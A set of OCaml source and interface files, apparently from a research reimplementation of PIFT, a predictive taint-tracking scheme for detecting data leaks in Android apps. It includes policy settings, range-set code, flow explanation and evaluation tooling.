(** [buffer_size] is the hardware FIFO capacity in events (default 4096);
    [drain_batch] how many buffered events the background drain consumes
    per {!tick} (default 256). *)

val taint_source : t -> pid:int -> Pift_util.Range.t -> unit
(** Source registrations drain the buffer first (they come from software,
    which is already off the fast path). *)

val observe : t -> Pift_trace.Event.t -> unit
(** Append a memory event to the buffer (non-memory events are ignored —
    the front end only forwards loads and stores, Fig. 5).  Overflow
    drops the oldest buffered event. *)

val tick : t -> unit
(** Background drain opportunity: consume up to [drain_batch] events. *)

val check : t -> pid:int -> Pift_util.Range.t -> bool
(** Sink check: drains everything buffered, then queries. *)

val dropped : t -> int
(** Events lost to overflow so far. *)

val buffered : t -> int
(** Events currently waiting. *)

val tracker : t -> Tracker.t
(** The underlying Algorithm 1 state (for statistics). *)
