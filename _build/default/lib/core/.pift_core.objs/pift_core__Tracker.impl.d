lib/core/tracker.ml: Hashtbl Pift_trace Pift_util Policy Store
