lib/core/reference.mli: Pift_trace Pift_util Policy
