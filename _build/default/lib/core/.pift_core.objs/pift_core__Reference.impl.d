lib/core/reference.ml: Hashtbl List Pift_trace Pift_util Policy
