lib/core/deferred.mli: Pift_trace Pift_util Policy Tracker
