lib/core/range_set.ml: Format Int List Map Pift_util
