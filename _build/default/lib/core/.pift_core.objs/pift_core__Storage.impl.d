lib/core/storage.ml: Array Hashtbl List Option Pift_util Range_set
