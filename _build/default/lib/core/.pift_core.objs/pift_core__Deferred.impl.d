lib/core/deferred.ml: Pift_trace Policy Queue Tracker
