lib/core/tracker.mli: Pift_trace Pift_util Policy Store
