lib/core/hw_model.ml: Float Format
