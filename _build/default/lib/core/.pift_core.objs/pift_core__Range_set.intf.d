lib/core/range_set.mli: Format Pift_util
