lib/core/store.mli: Pift_util Storage
