lib/core/provenance.ml: Hashtbl Pift_trace Pift_util Policy Range_set Set String
