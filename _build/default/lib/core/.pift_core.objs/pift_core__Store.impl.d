lib/core/store.ml: Hashtbl Pift_util Range_set Storage
