lib/core/provenance.mli: Pift_trace Pift_util Policy
