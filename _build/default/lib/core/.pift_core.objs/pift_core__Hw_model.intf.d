lib/core/hw_model.mli: Format
