lib/core/storage.mli: Pift_util
