(** Tainting-window policy: the two knobs of Algorithm 1 plus the
    untainting switch.

    [ni] is the tainting-window size NI (instructions from the last
    tainted load), [nt] the maximum number of propagations NT per window,
    and [untaint] enables removing the target ranges of stores that fall
    outside any window (§3.2). *)

type t = { ni : int; nt : int; untaint : bool }

val make : ?untaint:bool -> ni:int -> nt:int -> unit -> t
(** Raises [Invalid_argument] unless [ni >= 1] and [nt >= 1].
    [untaint] defaults to [true], the paper's recommended setting. *)

val default : t
(** The paper's chosen operating point: NI=13, NT=3, untainting on
    (98% accuracy on DroidBench, §5.1). *)

val malware_catching : t
(** NI=3, NT=2 — sufficient to catch all seven real-world malware
    samples (§5.1). *)

val perfect_droidbench : t
(** NI=18, NT=3 — 100% accuracy on the DroidBench subset (§5.1). *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string
