module Range = Pift_util.Range

type t = {
  add : pid:int -> Range.t -> unit;
  remove : pid:int -> Range.t -> unit;
  overlaps : pid:int -> Range.t -> bool;
  tainted_bytes : unit -> int;
  range_count : unit -> int;
  ranges : pid:int -> Range.t list;
}

let range_sets () =
  let sets : (int, Range_set.t ref) Hashtbl.t = Hashtbl.create 4 in
  let set pid =
    match Hashtbl.find_opt sets pid with
    | Some s -> s
    | None ->
        let s = ref Range_set.empty in
        Hashtbl.add sets pid s;
        s
  in
  let sum f = Hashtbl.fold (fun _ s acc -> acc + f !s) sets 0 in
  {
    add = (fun ~pid r -> let s = set pid in s := Range_set.add !s r);
    remove = (fun ~pid r -> let s = set pid in s := Range_set.remove !s r);
    overlaps = (fun ~pid r -> Range_set.mem_overlap !(set pid) r);
    tainted_bytes = (fun () -> sum Range_set.total_bytes);
    range_count = (fun () -> sum Range_set.cardinal);
    ranges = (fun ~pid -> Range_set.ranges !(set pid));
  }

let of_storage storage =
  {
    add = (fun ~pid r -> Storage.insert storage ~pid r);
    remove = (fun ~pid r -> Storage.remove storage ~pid r);
    overlaps = (fun ~pid r -> Storage.lookup storage ~pid r);
    tainted_bytes = (fun () -> Storage.tainted_bytes storage);
    range_count = (fun () -> Storage.range_count storage);
    ranges = (fun ~pid -> Storage.ranges storage ~pid);
  }
