(** Provenance-carrying variant of Algorithm 1: taint tags identify the
    source that produced them.

    The paper's related work (Raksha, Flexitaint) uses multi-bit tags to
    carry policy; the natural PIFT extension is to carry *source
    identity*, so a sink check answers not just "is this tainted" but
    "this buffer contains data derived from the IMEI and the phone
    number".  The window mechanics are identical to {!Tracker}: a load
    hitting any tainted range opens the window and records the union of
    the labels it touched; the up-to-NT in-window stores inherit that
    label set; out-of-window stores untaint all labels.

    State is one {!Range_set} per (process, label), so per-label cost
    matches the plain tracker and the label count only multiplies the
    source-registration footprint. *)

type t

val create : ?policy:Policy.t -> unit -> t

val policy : t -> Policy.t

val taint_source : t -> pid:int -> label:string -> Pift_util.Range.t -> unit

val observe : t -> Pift_trace.Event.t -> unit

val labels_of : t -> pid:int -> Pift_util.Range.t -> string list
(** Labels whose taint overlaps the range, sorted. *)

val is_tainted : t -> pid:int -> Pift_util.Range.t -> bool

val all_labels : t -> string list
(** Every label ever registered, sorted. *)

val tainted_bytes : t -> label:string -> int
