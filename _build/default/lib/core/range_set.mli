(** The tainted-address state R of Algorithm 1: a set of disjoint,
    coalesced byte ranges with O(log n) overlap queries.

    Ranges that overlap or touch are merged on insertion, so the set is
    always a canonical list of maximal disjoint ranges.  [cardinal] and
    [total_bytes] are O(1) — the overhead evaluation queries them on every
    event (Figs. 14–19). *)

type t

val empty : t
val is_empty : t -> bool

val add : t -> Pift_util.Range.t -> t
(** Taint a range (Algorithm 1 line 18). *)

val remove : t -> Pift_util.Range.t -> t
(** Untaint a range (line 21), splitting partially covered entries. *)

val mem_overlap : t -> Pift_util.Range.t -> bool
(** The tainted-load test of line 11: does any tainted range overlap the
    query?  This is the paper's [max(si,sL) <= min(ei,eL)] condition. *)

val covers : t -> Pift_util.Range.t -> bool
(** Is the whole query range tainted? *)

val cardinal : t -> int
(** Number of distinct ranges (Fig. 17/19 metric). *)

val total_bytes : t -> int
(** Total tainted bytes (Fig. 14/15/18 metric). *)

val ranges : t -> Pift_util.Range.t list
(** Maximal ranges in increasing address order. *)

val of_list : Pift_util.Range.t list -> t
val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
