(** Obviously-correct model of Algorithm 1 for differential testing.

    Taint state is a per-process hash set of individual byte addresses;
    every operation is a direct transliteration of the paper's pseudocode
    with no clever data structures.  Property tests drive {!Tracker} and
    this module with the same event stream and compare answers. *)

type t

val create : Policy.t -> t
val taint_source : t -> pid:int -> Pift_util.Range.t -> unit
val observe : t -> Pift_trace.Event.t -> unit
val is_tainted : t -> pid:int -> Pift_util.Range.t -> bool
val tainted_bytes : t -> int
val range_count : t -> int
(** Number of maximal runs of consecutive tainted bytes. *)
