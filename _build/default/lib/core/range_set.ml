module Range = Pift_util.Range
module Imap = Map.Make (Int)

(* Invariant: [map] binds each range's low address to its high address;
   ranges are pairwise disjoint and non-adjacent.  [bytes] and [count]
   mirror the map so the per-event metrics are O(1). *)
type t = { map : int Imap.t; bytes : int; count : int }

let empty = { map = Imap.empty; bytes = 0; count = 0 }
let is_empty t = t.count = 0
let cardinal t = t.count
let total_bytes t = t.bytes

(* Entries that must merge with [r]: the nearest entry starting strictly
   below [r.lo] (it can only be one, by disjointness), plus every entry
   starting within [r.lo .. r.hi + 1]. *)
let mergeable t r =
  let lo = Range.lo r and hi = Range.hi r in
  let below =
    match Imap.find_last_opt (fun k -> k < lo) t.map with
    | Some (k, e) when e >= lo - 1 -> [ (k, e) ]
    | Some _ | None -> []
  in
  let within =
    Imap.fold
      (fun k e acc -> if k >= lo && k <= hi + 1 then (k, e) :: acc else acc)
      (* restrict the fold to the candidate window *)
      (let _, _, right = Imap.split (lo - 1) t.map in
       let inside, _, _ = Imap.split (hi + 2) right in
       inside)
      []
  in
  below @ within

let add t r =
  let merged = mergeable t r in
  let lo =
    List.fold_left (fun acc (k, _) -> min acc k) (Range.lo r) merged
  in
  let hi =
    List.fold_left (fun acc (_, e) -> max acc e) (Range.hi r) merged
  in
  let removed_bytes =
    List.fold_left (fun acc (k, e) -> acc + (e - k + 1)) 0 merged
  in
  let map =
    List.fold_left (fun m (k, _) -> Imap.remove k m) t.map merged
  in
  {
    map = Imap.add lo hi map;
    bytes = t.bytes - removed_bytes + (hi - lo + 1);
    count = t.count - List.length merged + 1;
  }

(* Entries overlapping [r]: nearest entry below plus entries starting in
   [r.lo .. r.hi]. *)
let overlapping t r =
  let lo = Range.lo r and hi = Range.hi r in
  let below =
    match Imap.find_last_opt (fun k -> k < lo) t.map with
    | Some (k, e) when e >= lo -> [ (k, e) ]
    | Some _ | None -> []
  in
  let within =
    let _, at, right = Imap.split (lo - 1) t.map in
    ignore at;
    let inside, at_lo, _ = Imap.split (hi + 1) right in
    ignore at_lo;
    Imap.fold (fun k e acc -> (k, e) :: acc) inside []
  in
  below @ within

let remove t r =
  let affected = overlapping t r in
  let cut (map, bytes, count) (k, e) =
    let entry = Range.make k e in
    let pieces = Range.subtract entry r in
    let map = Imap.remove k map in
    let map =
      List.fold_left
        (fun m p -> Imap.add (Range.lo p) (Range.hi p) m)
        map pieces
    in
    let piece_bytes =
      List.fold_left (fun acc p -> acc + Range.length p) 0 pieces
    in
    (map, bytes - Range.length entry + piece_bytes,
     count - 1 + List.length pieces)
  in
  let map, bytes, count =
    List.fold_left cut (t.map, t.bytes, t.count) affected
  in
  { map; bytes; count }

let mem_overlap t r =
  match Imap.find_last_opt (fun k -> k <= Range.hi r) t.map with
  | Some (_, e) -> e >= Range.lo r
  | None -> false

let covers t r =
  match Imap.find_last_opt (fun k -> k <= Range.lo r) t.map with
  | Some (_, e) -> e >= Range.hi r
  | None -> false

let ranges t =
  Imap.fold (fun k e acc -> Range.make k e :: acc) t.map [] |> List.rev

let of_list l = List.fold_left add empty l

let equal a b =
  a.count = b.count && a.bytes = b.bytes && Imap.equal Int.equal a.map b.map

let pp ppf t =
  Format.fprintf ppf "{%a}"
    (Format.pp_print_list
       ~pp_sep:(fun ppf () -> Format.pp_print_string ppf ", ")
       Range.pp)
    (ranges t)
