type t = { ni : int; nt : int; untaint : bool }

let make ?(untaint = true) ~ni ~nt () =
  if ni < 1 then invalid_arg "Policy.make: ni must be >= 1";
  if nt < 1 then invalid_arg "Policy.make: nt must be >= 1";
  { ni; nt; untaint }

let default = { ni = 13; nt = 3; untaint = true }
let malware_catching = { ni = 3; nt = 2; untaint = true }
let perfect_droidbench = { ni = 18; nt = 3; untaint = true }

let pp ppf t =
  Format.fprintf ppf "{NI=%d, NT=%d, untaint=%b}" t.ni t.nt t.untaint

let to_string t = Format.asprintf "%a" pp t
