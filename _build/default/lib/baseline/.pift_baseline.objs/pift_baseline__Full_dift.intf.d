lib/baseline/full_dift.mli: Pift_arm Pift_trace Pift_util
