lib/baseline/full_dift.ml: Array Hashtbl List Pift_arm Pift_core Pift_trace Pift_util
