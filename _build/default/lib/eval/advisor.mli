(** Operating-point selection — the paper's proposed follow-up study
    ("there is a proper upper-bound on the window size for each leakage
    type, which could be found from a future large-scale experiment",
    §5.1), automated.

    Given a corpus of recordings with ground-truth labels, the advisor
    searches the (NI, NT) grid for the cheapest policy that reaches the
    required detection, where cost is the overtainting footprint
    (peak tainted bytes summed over the corpus) — bigger windows catch
    more but taint more (Fig. 11 vs Fig. 14). *)

type labelled = { recording : Recorded.t; leaky : bool }

val of_apps : Pift_workloads.App.t list -> labelled list
(** Record each app once. *)

type candidate = {
  policy : Pift_core.Policy.t;
  false_negatives : string list;  (** names of leaky recordings missed *)
  false_positives : string list;
  overtaint_cost : int;  (** sum of peak tainted bytes across the corpus *)
}

val evaluate : labelled list -> policy:Pift_core.Policy.t -> candidate

val recommend :
  ?max_ni:int -> ?max_nt:int -> labelled list -> candidate option
(** The zero-FN, zero-FP policy with the smallest overtaint cost
    (ties broken towards smaller NI, then smaller NT); [None] when no
    policy on the grid classifies the corpus perfectly. *)

val pp_candidate : Format.formatter -> candidate -> unit
