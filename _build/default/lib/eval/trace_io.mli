(** Recording serialization — the paper's offline pipeline as an artefact.

    The paper's evaluation dumps gem5 instruction traces together with the
    source/sink address ranges printed by PIFT Native, and feeds both into
    the analysis code.  This module persists a {!Recorded.t} in a simple
    line-oriented text format so recordings can be archived, diffed, and
    re-analysed (including by external tools):

    {v
    PIFT-TRACE 1
    name <string>
    pid <int>
    bytecodes <int>
    L <seq> <k> <pid> <lo> <len>     # load event
    S <seq> <k> <pid> <lo> <len>     # store event
    O <seq> <k> <pid>                # non-memory event
    M <seq> SRC <kind> <lo> <len>    # source registration marker
    M <seq> SNK <kind> (<lo> <len>)* # sink check marker
    v}

    Loads and stores round-trip exactly.  Non-memory instructions are
    serialised as opaque [O] lines: a loaded recording supports the PIFT
    analysis and all trace statistics, but not the register-level
    full-DIFT baseline (which needs instruction operands — run it live
    instead). *)

val save : Recorded.t -> string -> unit
(** [save recording path] — writes the file, overwriting. *)

val load : string -> Recorded.t
(** Raises [Failure] with a line number on malformed input. *)

val to_channel : Recorded.t -> out_channel -> unit
val of_channel : in_channel -> Recorded.t
