(** Flow explanation: reconstruct {e how} taint travelled from a source
    to a sink under Algorithm 1.

    The replay records, for every propagation, which store was tainted
    and which tainted load opened its window.  Walking those links
    backward from the flagged sink range yields the chain of
    load→store hops — the paper's §2 picture ("repeating this prediction
    process creates a chain of load–store operations …, eventually
    establishing whether an information flow from a source to a sink
    exists"), made inspectable per run. *)

type hop = {
  store_seq : int;  (** global sequence of the tainted store *)
  stored : Pift_util.Range.t;  (** range the store tainted *)
  load_seq : int;  (** the tainted load that opened the window *)
  loaded : Pift_util.Range.t;  (** range that load read *)
}

type flow = {
  sink_kind : string;
  sink_range : Pift_util.Range.t;  (** the flagged range at the sink *)
  hops : hop list;  (** sink-to-source order *)
  source : Pift_util.Range.t option;
      (** the registered source range the chain bottoms out in, if the
          walk reaches one *)
}

val explain :
  ?policy:Pift_core.Policy.t -> Recorded.t -> flow list
(** One {!flow} per flagged sink check (empty when nothing is flagged).
    Chains are capped at 64 hops. *)

val pp_flow : Format.formatter -> flow -> unit
