module Range = Pift_util.Range
module Event = Pift_trace.Event
module Policy = Pift_core.Policy
module Range_set = Pift_core.Range_set

type hop = {
  store_seq : int;
  stored : Range.t;
  load_seq : int;
  loaded : Range.t;
}

type flow = {
  sink_kind : string;
  sink_range : Range.t;
  hops : hop list;
  source : Range.t option;
}

type window = {
  mutable ltlt : int;
  mutable nt_used : int;
  mutable opener_seq : int;
  mutable opener_range : Range.t option;
}

(* An Algorithm 1 replay that additionally records, per taint
   propagation, the load that opened the window. *)
let instrumented_replay ~policy (t : Recorded.t) =
  let state : (int, Range_set.t ref) Hashtbl.t = Hashtbl.create 4 in
  let windows : (int, window) Hashtbl.t = Hashtbl.create 4 in
  let taints = ref [] (* newest first *) in
  let sources = ref [] in
  let flagged_sinks = ref [] in
  let set pid =
    match Hashtbl.find_opt state pid with
    | Some s -> s
    | None ->
        let s = ref Range_set.empty in
        Hashtbl.add state pid s;
        s
  in
  let window pid =
    match Hashtbl.find_opt windows pid with
    | Some w -> w
    | None ->
        let w =
          { ltlt = min_int / 2; nt_used = 0; opener_seq = 0;
            opener_range = None }
        in
        Hashtbl.add windows pid w;
        w
  in
  let observe e =
    match e.Event.access with
    | Event.Other -> ()
    | Event.Load r ->
        if Range_set.mem_overlap !(set e.pid) r then begin
          let w = window e.pid in
          w.ltlt <- e.k;
          w.nt_used <- 0;
          w.opener_seq <- e.seq;
          w.opener_range <- Some r
        end
    | Event.Store r -> (
        let w = window e.pid in
        if e.k <= w.ltlt + policy.Policy.ni && w.nt_used < policy.Policy.nt
        then begin
          let s = set e.pid in
          s := Range_set.add !s r;
          w.nt_used <- w.nt_used + 1;
          match w.opener_range with
          | Some loaded ->
              taints :=
                { store_seq = e.seq; stored = r; load_seq = w.opener_seq;
                  loaded }
                :: !taints
          | None -> ()
        end
        else if policy.Policy.untaint then begin
          let s = set e.pid in
          if Range_set.mem_overlap !s r then s := Range_set.remove !s r
        end)
  in
  let on_marker seq = function
    | Recorded.Source { range; _ } ->
        sources := range :: !sources;
        let s = set t.Recorded.pid in
        s := Range_set.add !s range
    | Recorded.Sink { kind; ranges } ->
        List.iter
          (fun r ->
            if Range_set.mem_overlap !(set t.Recorded.pid) r then
              flagged_sinks := (kind, r, seq) :: !flagged_sinks)
          ranges
  in
  let markers = t.Recorded.markers in
  let mi = ref 0 in
  let apply_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      on_marker (fst markers.(!mi)) (snd markers.(!mi));
      incr mi
    done
  in
  apply_until 0;
  Pift_trace.Trace.iter
    (fun e ->
      observe e;
      apply_until e.Event.seq)
    t.Recorded.trace;
  apply_until max_int;
  (!taints, !sources, List.rev !flagged_sinks)

let max_hops = 64

let explain ?(policy = Policy.default) t =
  let taints, sources, flagged = instrumented_replay ~policy t in
  let source_for r = List.find_opt (fun s -> Range.overlaps s r) sources in
  let chain_for sink_range sink_seq =
    let rec walk target time acc n =
      if n >= max_hops then (List.rev acc, source_for target)
      else
        match source_for target with
        | Some src -> (List.rev acc, Some src)
        | None -> (
            (* the most recent propagation into [target] before [time];
               [taints] is newest-first *)
            match
              List.find_opt
                (fun h ->
                  h.store_seq <= time && Range.overlaps h.stored target)
                taints
            with
            | Some h -> walk h.loaded h.load_seq (h :: acc) (n + 1)
            | None -> (List.rev acc, None))
    in
    walk sink_range sink_seq [] 0
  in
  List.map
    (fun (sink_kind, sink_range, seq) ->
      let hops, source = chain_for sink_range seq in
      { sink_kind; sink_range; hops; source })
    flagged

let pp_flow ppf f =
  Format.fprintf ppf "@[<v>sink %s flagged at %a@," f.sink_kind Range.pp
    f.sink_range;
  List.iter
    (fun h ->
      Format.fprintf ppf
        "  <- store @%d tainted %a (window opened by load @%d of %a)@,"
        h.store_seq Range.pp h.stored h.load_seq Range.pp h.loaded)
    f.hops;
  (match f.source with
  | Some s -> Format.fprintf ppf "  <- source registration %a@," Range.pp s
  | None -> Format.fprintf ppf "  <- (chain does not reach a source)@,");
  Format.fprintf ppf "@]"
