(** The paper's empirical load/store structure study on the LGRoot trace:
    Fig. 2 (distance distributions) and the §5.1 micro-benchmarks
    Fig. 12 (stores per window) and Fig. 13 (distance to the k-th
    store). *)

type t

val analyse : Recorded.t -> t

val load_store_distance : t -> Pift_util.Histogram.t
val stores_between_loads : t -> Pift_util.Histogram.t
val load_load_distance : t -> Pift_util.Histogram.t

val coverage_within : t -> int -> float
(** Fraction of stores whose distance to the last load is within the
    given window — the paper's "the range 0–10 captures 99% of all loads
    and stores". *)

val stores_in_window : t -> ni:int -> Pift_util.Histogram.t
val kth_store_distance : t -> ni:int -> kth:int -> float option

val render_fig2 : t -> Format.formatter -> unit -> unit
val render_fig12 : ?nis:int list -> t -> Format.formatter -> unit -> unit
val render_fig13 :
  ?nis:int list -> ?ks:int list -> t -> Format.formatter -> unit -> unit
