(** Fig. 10 — distribution of the top-30 bytecodes in application and
    system-library dex files, annotated with their load–store distances.

    Runs {!Pift_dalvik.Dex_stats} over the calibrated synthetic corpora
    ({!Pift_workloads.Corpus}) and, for transparency, over the actual
    DroidBench-like suite shipped in this repository. *)

val applications : unit -> Pift_dalvik.Dex_stats.row list
val system_libraries : unit -> Pift_dalvik.Dex_stats.row list

val droidbench_suite : unit -> Pift_dalvik.Dex_stats.row list
(** Static distribution of this repo's own workload programs. *)

val short_distance_share : Pift_dalvik.Dex_stats.row list -> float
(** Fraction of data-moving occurrences whose distance is known and
    <= 6 — the paper's "most of the frequently appearing bytecodes have
    a short load-store distance". *)

val render :
  title:string ->
  Pift_dalvik.Dex_stats.row list ->
  Format.formatter ->
  unit ->
  unit
