module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Series = Pift_util.Series

type point = {
  ni : int;
  nt : int;
  untaint : bool;
  max_tainted_bytes : int;
  max_ranges : int;
  taint_ops : int;
  untaint_ops : int;
}

let measure ?(untaint = true) recorded ~ni ~nt =
  let policy = Policy.make ~untaint ~ni ~nt () in
  let replay = Recorded.replay ~policy recorded in
  let s = replay.Recorded.stats in
  {
    ni;
    nt;
    untaint;
    max_tainted_bytes = s.Tracker.max_tainted_bytes;
    max_ranges = s.Tracker.max_ranges;
    taint_ops = s.Tracker.taint_ops;
    untaint_ops = s.Tracker.untaint_ops;
  }

let default_nis = List.init 20 (fun i -> i + 1)
let default_nts = List.init 10 (fun i -> i + 1)

let grid ?(nis = default_nis) ?(nts = default_nts) recorded =
  List.concat_map
    (fun ni -> List.map (fun nt -> measure recorded ~ni ~nt) nts)
    nis

let series recorded ~ni ~nt =
  let policy = Policy.make ~ni ~nt () in
  let replay = Recorded.replay ~policy recorded in
  ( Series.downsample replay.Recorded.bytes_series 72,
    Series.downsample replay.Recorded.ops_series 72 )

let untaint_effect recorded ~nis ~nt =
  List.map
    (fun ni ->
      ( ni,
        measure ~untaint:true recorded ~ni ~nt,
        measure ~untaint:false recorded ~ni ~nt ))
    nis

let render_grid ~title ~metric points ppf () =
  let nis = List.sort_uniq Int.compare (List.map (fun p -> p.ni) points) in
  let nts = List.sort_uniq Int.compare (List.map (fun p -> p.nt) points) in
  let find ni nt =
    List.find (fun p -> p.ni = ni && p.nt = nt) points
  in
  Pift_util.Textplot.heatmap ~title ~row_label:"NT" ~col_label:"NI" ~rows:nts
    ~cols:nis
    (fun ~row ~col -> float_of_int (metric (find col row)))
    ppf ()

let render_series ~title ~log_scale curves ppf () =
  Pift_util.Textplot.series ~log_scale ~title curves ppf ();
  (* Numeric companion table: each curve sampled at ~8 common points. *)
  let tmax =
    List.fold_left
      (fun acc (_, pts) ->
        List.fold_left (fun acc (t, _) -> max acc t) acc pts)
      1 curves
  in
  let samples = List.init 8 (fun i -> tmax * (i + 1) / 8) in
  Format.fprintf ppf "@[<v>%10s" "t";
  List.iter (fun t -> Format.fprintf ppf "%10d" t) samples;
  Format.fprintf ppf "@,";
  let value_at pts t =
    List.fold_left (fun acc (t', v) -> if t' <= t then v else acc) 0 pts
  in
  List.iter
    (fun (label, pts) ->
      Format.fprintf ppf "%10s" label;
      List.iter (fun t -> Format.fprintf ppf "%10d" (value_at pts t)) samples;
      Format.fprintf ppf "@,")
    curves;
  Format.fprintf ppf "@]@."
