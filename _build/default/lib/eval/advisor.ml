module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker

type labelled = { recording : Recorded.t; leaky : bool }

let of_apps apps =
  List.map
    (fun (a : Pift_workloads.App.t) ->
      { recording = Recorded.record a; leaky = a.Pift_workloads.App.leaky })
    apps

type candidate = {
  policy : Policy.t;
  false_negatives : string list;
  false_positives : string list;
  overtaint_cost : int;
}

let evaluate corpus ~policy =
  let fns = ref [] and fps = ref [] and cost = ref 0 in
  List.iter
    (fun { recording; leaky } ->
      let replay = Recorded.replay ~policy recording in
      cost :=
        !cost + replay.Recorded.stats.Tracker.max_tainted_bytes;
      match (leaky, replay.Recorded.flagged) with
      | true, false -> fns := recording.Recorded.name :: !fns
      | false, true -> fps := recording.Recorded.name :: !fps
      | true, true | false, false -> ())
    corpus;
  {
    policy;
    false_negatives = List.rev !fns;
    false_positives = List.rev !fps;
    overtaint_cost = !cost;
  }

let recommend ?(max_ni = 20) ?(max_nt = 10) corpus =
  let best = ref None in
  for ni = 1 to max_ni do
    for nt = 1 to max_nt do
      let candidate = evaluate corpus ~policy:(Policy.make ~ni ~nt ()) in
      if candidate.false_negatives = [] && candidate.false_positives = []
      then
        match !best with
        | None -> best := Some candidate
        | Some b ->
            let key c =
              ( c.overtaint_cost,
                c.policy.Policy.ni,
                c.policy.Policy.nt )
            in
            if key candidate < key b then best := Some candidate
    done
  done;
  !best

let pp_candidate ppf c =
  Format.fprintf ppf
    "@[<v>policy %s: %d FN, %d FP, overtaint cost %d bytes%a%a@]"
    (Policy.to_string c.policy)
    (List.length c.false_negatives)
    (List.length c.false_positives)
    c.overtaint_cost
    (fun ppf -> function
      | [] -> ()
      | l -> Format.fprintf ppf "@,missed: %s" (String.concat ", " l))
    c.false_negatives
    (fun ppf -> function
      | [] -> ()
      | l -> Format.fprintf ppf "@,false alarms: %s" (String.concat ", " l))
    c.false_positives
