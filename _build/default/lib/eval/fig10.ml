module Dex_stats = Pift_dalvik.Dex_stats
module Translate = Pift_dalvik.Translate
module Corpus = Pift_workloads.Corpus

let top30 programs = Dex_stats.top 30 programs
let applications () = top30 (Corpus.applications ())
let system_libraries () = top30 (Corpus.system_libraries ())

let droidbench_suite () =
  let programs =
    List.map
      (fun (a : Pift_workloads.App.t) -> a.Pift_workloads.App.program ())
      (Pift_workloads.Droidbench.all @ Pift_workloads.Malware.all)
  in
  top30 programs

let short_distance_share rows =
  let moving =
    List.filter (fun (r : Dex_stats.row) -> r.Dex_stats.moves_data) rows
  in
  let total =
    List.fold_left (fun acc (r : Dex_stats.row) -> acc +. r.share) 0. moving
  in
  let short =
    List.fold_left
      (fun acc (r : Dex_stats.row) ->
        match r.distance with
        | Translate.Fixed d when d <= 6 -> acc +. r.share
        | Translate.Fixed _ | Translate.Approx _ | Translate.Unknown
        | Translate.No_flow ->
            acc)
      0. moving
  in
  if total = 0. then 0. else short /. total

let pp_spec ppf = function
  | Translate.Fixed d -> Format.fprintf ppf "%d" d
  | Translate.Approx (lo, hi) -> Format.fprintf ppf "%d-%d" lo hi
  | Translate.Unknown -> Format.pp_print_string ppf "unknown"
  | Translate.No_flow -> Format.pp_print_string ppf ""

let render ~title rows ppf () =
  Format.fprintf ppf "@[<v>== %s ==@," title;
  Format.fprintf ppf "%-24s %8s %6s %10s@," "bytecode" "share" "moves"
    "L-S dist";
  List.iter
    (fun (r : Dex_stats.row) ->
      Format.fprintf ppf "%-24s %7.2f%% %6s %10s@," r.mnemonic
        (100. *. r.share)
        (if r.moves_data then "*" else "")
        (Format.asprintf "%a" pp_spec r.distance))
    rows;
  Format.fprintf ppf
    "share of data-moving occurrences with known distance <= 6: %.1f%%@,"
    (100. *. short_distance_share rows);
  Format.fprintf ppf "@]@."
