(** Table 1 — native load→store distances within Dalvik bytecodes.

    The paper measures, for each bytecode that can move data, the longest
    distance between the loads of actual data and the store instruction
    in its native translation.  We reproduce the measurement dynamically:
    for each opcode a micro-method is executed with a tainted operand,
    and the minimal window size NI that propagates the taint to the
    destination is searched — by construction of Algorithm 1 this equals
    the load→store distance.  The static expectation
    ({!Pift_dalvik.Translate.expected_distance}) is printed alongside. *)

type row = {
  mnemonic : string;
  expected : Pift_dalvik.Translate.distance_spec;
  measured : int option;
      (** minimal propagating NI, or [None] when no NI <= 30 propagates
          (the "unknown" runtime-ABI rows) *)
}

val measure_all : unit -> row list
(** One row per measured opcode, in Table 1 order (by distance). *)

val consistent : row -> bool
(** Does the dynamic measurement agree with the static expectation? *)

val render : row list -> Format.formatter -> unit -> unit
(** Table 1-style output: distance, count, example bytecodes. *)
