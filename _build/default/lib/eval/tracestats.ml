module Stats = Pift_trace.Stats
module Histogram = Pift_util.Histogram
module Textplot = Pift_util.Textplot

type t = { name : string; trace : Pift_trace.Trace.t }

let analyse (r : Recorded.t) = { name = r.Recorded.name; trace = r.trace }

let load_store_distance t = Stats.load_store_distance t.trace
let stores_between_loads t = Stats.stores_between_loads t.trace
let load_load_distance t = Stats.load_load_distance t.trace

let coverage_within t w = Histogram.cdf (load_store_distance t) w

let stores_in_window t ~ni = Stats.stores_in_window ~ni t.trace
let kth_store_distance t ~ni ~kth = Stats.kth_store_distance ~ni ~kth t.trace

let render_fig2 t ppf () =
  Textplot.distribution
    ~title:
      (Printf.sprintf "Fig. 2a — distance from a store to the last load (%s)"
         t.name)
    (load_store_distance t) ppf ();
  Textplot.distribution ~max_bin:10
    ~title:
      (Printf.sprintf "Fig. 2b — number of stores between two loads (%s)"
         t.name)
    (stores_between_loads t) ppf ();
  Textplot.distribution
    ~title:(Printf.sprintf "Fig. 2c — distance between two loads (%s)" t.name)
    (load_load_distance t) ppf ();
  Format.fprintf ppf
    "coverage: %.2f%% of stores are within 10 instructions of a load@."
    (100. *. coverage_within t 10)

let render_fig12 ?(nis = [ 5; 10; 15; 20; 40; 60; 80; 100 ]) t ppf () =
  List.iter
    (fun ni ->
      Textplot.distribution ~max_bin:40
        ~title:
          (Printf.sprintf "Fig. 12 — # stores in window of NI = %d (%s)" ni
             t.name)
        (stores_in_window t ~ni) ppf ())
    nis

let render_fig13 ?(nis = [ 5; 10; 15; 20 ]) ?(ks = [ 1; 2; 3 ]) t ppf () =
  Format.fprintf ppf
    "@[<v>== Fig. 13 — mean distance to the k-th store in a window (%s) ==@,"
    t.name;
  Format.fprintf ppf "%8s" "NI";
  List.iter (fun k -> Format.fprintf ppf "%14s" (Printf.sprintf "store #%d" k)) ks;
  Format.fprintf ppf "@,";
  List.iter
    (fun ni ->
      Format.fprintf ppf "%8d" ni;
      List.iter
        (fun kth ->
          match kth_store_distance t ~ni ~kth with
          | Some d -> Format.fprintf ppf "%14.2f" d
          | None -> Format.fprintf ppf "%14s" "-")
        ks;
      Format.fprintf ppf "@,")
    nis;
  Format.fprintf ppf "@]@."
