module B = Pift_dalvik.Bytecode
module Method = Pift_dalvik.Method
module Program = Pift_dalvik.Program
module Vm = Pift_dalvik.Vm
module Translate = Pift_dalvik.Translate
module Env = Pift_runtime.Env
module Heap = Pift_runtime.Heap
module Jarray = Pift_runtime.Jarray
module Jstring = Pift_runtime.Jstring
module Tcb = Pift_runtime.Tcb
module Range = Pift_util.Range
module Trace = Pift_trace.Trace
